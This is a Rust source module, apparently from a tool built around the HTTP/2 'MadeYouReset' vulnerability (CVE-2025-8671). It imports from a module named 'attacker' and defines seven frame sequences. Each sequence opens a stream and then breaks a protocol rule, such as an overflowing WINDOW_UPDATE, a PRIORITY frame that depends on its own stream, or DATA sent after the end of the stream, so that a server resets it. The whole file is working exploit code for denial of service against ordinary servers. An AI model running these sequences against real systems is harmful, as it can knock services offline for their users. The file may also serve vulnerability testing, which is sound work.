//! The variants of MadeYouReset (CVE-2025-8671): what makes a server reset a stream.

use crate::attacker::{DATA, END_HEADERS, HEADERS, PRIORITY, WINDOW_UPDATE, call, fields, frame, message};

/// The name, and the frames that open a stream of this path and then break a rule.
pub type Provocation = (&'static str, fn(u32, &str) -> Vec<u8>);

fn open(stream: u32, path: &str, ends: bool) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | u8::from(ends), stream, &call(path))
}

pub const PROVOCATIONS: [Provocation; 7] = [
    ("a WINDOW_UPDATE of nothing", |s, path| [open(s, path, false), frame(WINDOW_UPDATE, 0, s, &[0; 4])].concat()),
    ("a window that overflows", |s, path| {
        [open(s, path, false), frame(WINDOW_UPDATE, 0, s, &[0x7f, 0xff, 0xff, 0xff])].concat()
    }),
    ("a PRIORITY on itself", |s, path| {
        let itself = [&s.to_be_bytes()[..], &[0]].concat();
        [open(s, path, false), frame(PRIORITY, 0, s, &itself)].concat()
    }),
    ("a PRIORITY of the wrong size", |s, path| [open(s, path, false), frame(PRIORITY, 0, s, &[0; 4])].concat()),
    ("DATA after the end", |s, path| [open(s, path, true), frame(DATA, 0, s, &message("hi"))].concat()),
    ("HEADERS after the end", |s, path| {
        [open(s, path, true), frame(HEADERS, END_HEADERS, s, &fields(&[("x", "y")]))].concat()
    }),
    ("more than the content-length", |s, path| {
        let head = [call(path), fields(&[("content-length", "1")])].concat();
        [frame(HEADERS, END_HEADERS, s, &head), frame(DATA, 0, s, &message("hi"))].concat()
    }),
];
